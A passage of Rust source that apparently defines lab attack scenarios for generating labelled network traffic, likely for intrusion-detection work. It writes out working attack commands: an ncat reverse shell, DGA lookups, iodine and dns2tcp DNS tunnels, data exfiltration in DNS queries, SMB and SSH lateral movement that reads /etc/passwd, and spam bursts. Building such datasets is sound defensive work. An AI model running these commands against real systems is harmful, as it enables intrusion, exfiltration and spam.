                        .replace(&format!("{pause}ING"), "PING"),
                )
                .beside("i1", NEIGHBOUR)
                .over(course)
                .seconds(75),
        );
    }
    all.push(
        attack("bot-reverse-shell", "c2_framework")
            .serve("w2", &WEB)
            .serve("w3", &DNS)
            .beside("a1", "(for n in $(seq 1 40); do for c in l s ' ' - l; do printf \"$c\"; sleep 0.2; done; echo; sleep 1.$((n % 9)); done) | ncat -l 4443")
            .run("x1", "sleep 2; ncat a1 4443 -e /bin/sh")
            .beside("i1", NEIGHBOUR)
            .over(WAN)
            .seconds(75),
    );
    // Names made up by day: nearly none exists.
    for (name, pause, server, course) in [
        ("burst", "0", &DNS, LAN),
        ("steady", "0.5", &DNS, WAN),
        ("unbound", "0.1", &UNBOUND, WLAN),
    ] {
        let script = format!(
            "for n in $(seq 1 600); do dig +short +tries=1 $(head -c 9 /dev/urandom | base64 | tr -dc a-z | head -c 12)x$n.com >/dev/null; sleep {pause}; done"
        );
        all.push(
            attack(format!("dga-{name}"), "c2_botnet")
                .serve("w3", server)
                .serve("w2", &WEB)
                .run("x1", &script)
                .beside("i1", NEIGHBOUR)
                .udp(&[53])
                .over(course)
                .seconds(60),
        );
    }
    all
}

fn tunnels() -> Vec<Scenario> {
    let mut all = Vec::new();
    let asked = "for n in $(seq 1 60); do dig +short host$n.example @$w3 >/dev/null; dig +short nope$n.com @$w3 >/dev/null; sleep 0.9; done";
    let load = |what: &str| -> &'static str {
        match what {
            "ping" => "ping -q -i 0.3 -c 120 10.99.0.1",
            "bulk" => {
                "for n in $(seq 1 20); do head -c 30000 /dev/urandom | timeout 6 ncat --send-only 10.99.0.1 4444; sleep 0.5; done"
            }
            "shell" => {
                "(for n in $(seq 1 60); do echo PING $n; sleep 0.7; done) | timeout 60 ncat 10.99.0.1 4444"
            }
            _ => "sleep 60",
        }
    };
    for (kind, what, course) in [
        ("NULL", "idle", LAN),
        ("NULL", "bulk", WAN),
        ("TXT", "ping", WAN),
        ("TXT", "bulk", LAN),
        ("CNAME", "shell", WAN),
        ("CNAME", "idle", FAR),
        ("MX", "ping", WLAN),
        ("SRV", "bulk", WAN),
        ("A", "shell", LAN),
        ("PRIVATE", "ping", FAR),
    ] {
        let script = format!(
            "mkdir -p /dev/net; iodine -f -r -P secret -T {kind} $w1 t.example & \
             for n in $(seq 1 40); do sleep 0.5; ip -4 addr show dev dns0 2>/dev/null | grep -q 10.99 && break; done; sleep 1; {}",
            load(what)
        );
        all.push(
            attack(
                format!("tunnel-iodine-{}-{what}", kind.to_lowercase()),
                "dns_tunnel",
            )
            .serve("w1", &IODINE)
            .serve("w1", &CONTROL)
            .serve("w3", &DNS)
            .run("x1", &script)
            .beside("i1 i2", asked)
            .udp(&[53])
            .over(course)
            .seconds(55),
        );
    }
    // By way of the resolver everybody asks.
    let script = "iodine -f -r -P secret -T TXT $s9 t.example & for n in $(seq 1 40); do sleep 0.5; ip -4 addr show dev dns0 2>/dev/null | grep -q 10.99 && break; done; ping -q -i 0.5 -c 60 10.99.0.1";
    all.push(
        attack("tunnel-iodine-resolver", "dns_tunnel")
            .serve("w1", &IODINE)
            .serve("s9", &DNS)
            .run("a1", script)
            .beside("c1 c2", "for n in $(seq 1 60); do dig +short host$n.example @$s9 >/dev/null; sleep 0.9; done")
            .udp(&[53])
            .over(WAN)
            .seconds(55),
    );
    for (name, kind, gets, course) in [
        (
            "txt-bulk",
            "TXT",
            "for n in 1 2 3 4 5 6; do curl -s -m 20 -o /dev/null http://127.0.0.1:8088/f; done",
            LAN,
        ),
        (
            "txt-slow",
            "TXT",
            "for n in $(seq 1 20); do curl -s -m 20 -r 0-800 -o /dev/null http://127.0.0.1:8088/f; sleep 2; done",
            WAN,
        ),
        (
            "key-bulk",
            "KEY",
            "for n in 1 2 3 4; do curl -s -m 20 -o /dev/null http://127.0.0.1:8088/f; done",
            WAN,
        ),
        (
            "key-slow",
            "KEY",
            "for n in $(seq 1 8); do curl -s -m 20 -r 0-300 -o /dev/null http://127.0.0.1:8088/f; sleep 4; done",
            FAR,
        ),
    ] {
        let script = format!(
            "dns2tcpc -r web -k secret -z t.example -l 8088 -T {kind} $w1 & sleep 2; {gets}"
        );
        all.push(
            attack(format!("tunnel-dns2tcp-{name}"), "dns_tunnel")
                .serve("w1", &DNS2TCP)
                .serve("w3", &DNS)
                .run("x1", &script)
                .beside("i1 i2", asked)
                .udp(&[53])
                .over(course)
                .seconds(55),
        );
    }
    // Data carried out in plain questions.
    for (name, pause, bytes, course) in [
        ("fast", "0.02", 40, WAN),
        ("slow", "1", 30, WAN),
        ("long", "0.2", 110, LAN),
    ] {
        let script = format!(
            "for n in $(seq 1 900); do dig +short +tries=1 @$w3 $(head -c {bytes} /dev/urandom | od -An -tx1 | tr -d ' \\n' | fold -w 60 | paste -sd.).host1.example >/dev/null; sleep {pause}; done"
        );
        all.push(
            attack(format!("tunnel-questions-{name}"), "dns_tunnel")
                .serve("w3", &DNS)
                .run("x1", &script)
                .beside("i1 i2", asked)
                .udp(&[53])
                .over(course)
                .seconds(50),
        );
    }
    all
}

fn lateral_and_spam() -> Vec<Scenario> {
    let mut all = Vec::new();
    let servers = "s1 s2 s3 s4 s5";
    for (name, server, port, script, course) in [
        (
            "smb-list",
            &SMB,
            445,
            "for r in 1 2 3 4 5 6; do for h in s1 s2 s3 s4 s5; do smbclient -L //$h -U lab%right-1; done; sleep 2; done",
            LAN,
        ),
        (
            "smb-drop",
            &SMB,
            445,
            "head -c 90000 /dev/urandom >tool; for h in s1 s2 s3 s4 s5; do smbclient //$h/share -U lab%right-1 -c 'put tool svc.exe; ls; get doc1; del svc.exe'; sleep 1; done",
            LAN,
        ),
        (
            "smb-hunt",
            &SMB,
            445,
            "for r in 1 2 3; do for n in $(seq 1 20); do timeout 2 smbclient -t 1 -L //198.19.1.$n -U lab%right-1; done; done",
            WLAN,
        ),
        (
            "winrm",
            &WEB,
            5_985,
            "head -c 4000 /dev/urandom | base64 >soap; for r in 1 2 3 4 5 6 7 8; do for h in s1 s2 s3 s4 s5; do curl -s -o /dev/null -d @soap http://$h:5985/post http://$h:5985/wsman http://$h:5985/post; done; sleep 1; done",
            LAN,
        ),
        (
            "winrm-one",
            &WEB,
            5_985,
            "head -c 2000 /dev/urandom | base64 >soap; for r in $(seq 1 60); do curl -s -o /dev/null -d @soap http://s1:5985/post; sleep 0.7; done",
            WAN,
        ),
        (
            "ssh-hops",
            &SSH,
            22,
            "for r in 1 2 3; do for h in s1 s2 s3 s4 s5; do sshpass -p right-1 ssh lab@$h 'id; uname -a; cat /etc/passwd; ls -la'; done; done",
            LAN,
        ),
        (
            "ssh-copy",
            &SSH,
            22,
            "head -c 200000 /dev/urandom >tool; for h in s1 s2 s3 s4 s5; do sshpass -p right-1 scp tool lab@$h:t; sshpass -p right-1 ssh lab@$h 'chmod +x t; sleep 1'; done",
            WLAN,
        ),
    ] {
        all.push(
            attack(format!("lateral-{name}"), "lateral_movement")
                .serve(servers, server)
                .run("a1", script)
                .beside("c1", match port {
                    445 => "for n in $(seq 1 20); do smbclient //s1/share -U lab%right-1 -c 'ls; get doc2'; sleep 2; done",
                    22 => ADMIN,
                    _ => USERS,
                })
                .tcp(&[port])
                .over(course)
                .seconds(60),
        );
    }
    for (name, targets, script, course) in [
        (
            "swaks-burst",
            "w1 w2 w3 w4 w5 w6",
            "for r in $(seq 1 30); do for h in w1 w2 w3 w4 w5 w6; do swaks --server $h --from a@x.example --to u$r@$h.example --helo x --silent 3 & done; sleep 0.3; done; wait",
            WAN,
        ),
        (
            "swaks-slow",
            "w1 w2 w3 w4",
            "for r in $(seq 1 12); do for h in w1 w2 w3 w4; do swaks --server $h --from a@x.example --to u$r@$h.example --silent 3; sleep 1; done; done",
            FAR,
        ),
        (
            "dead-servers",
            "w1 w2",
            "for r in $(seq 1 120); do (timeout 6 swaks --server 198.19.101.$((r % 60)) --timeout 4 --from a@x.example --to u@x.example --silent 3) & sleep 0.2; done; wait",
            WAN,
        ),
        (
            "curl-crowd",
            "w1 w2 w3",
            "printf 'Subject: x\\n\\n%s\\n' $(head -c 900 /dev/urandom | base64 -w0) >m; for r in $(seq 1 250); do curl -s -m 4 --mail-from a@x.example --mail-rcpt u$r@x.example -T m smtp://198.19.10$((r % 3 + 1)).$((r % 14 + 1)) & sleep 0.1; done; wait",
            WAN,
        ),
        (
            "curl-crowd-fast",
            "w1 w2 w3",
            "printf 'Subject: x\\n\\n%s\\n' $(head -c 3000 /dev/urandom | base64 -w0) >m; for r in $(seq 1 400); do curl -s -m 4 --mail-from a@x.example --mail-rcpt u$r@x.example -T m smtp://198.19.10$((r % 3 + 1)).$((r % 14 + 1)) & sleep 0.03; done; wait",
            LAN,
        ),
    ] {
        all.push(
            attack(format!("spam-{name}"), "spam_bot")
                .serve(targets, &SMTP)
                .serve("w9", &DNS)
                .run("x1", script)
                .beside("i1", "for n in $(seq 1 30); do dig +short shop.example mx @$w9 >/dev/null; sleep 1; done; swaks --server w1 --from b@y.example --to c@z.example --silent 3")
                .tcp(&[25])
                .over(course)
                .seconds(60),
        );
    }
    all
}
